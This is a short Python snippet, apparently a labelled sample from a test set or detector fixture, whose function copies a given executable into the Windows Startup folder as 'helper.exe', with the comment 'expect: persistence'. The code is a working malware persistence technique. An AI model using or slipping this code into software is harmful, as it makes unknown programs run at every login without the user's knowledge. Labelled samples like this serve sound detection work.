import os
import shutil

def stay(exe):
    folder = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    shutil.copy(exe, os.path.join(folder, "helper.exe"))  # expect: persistence
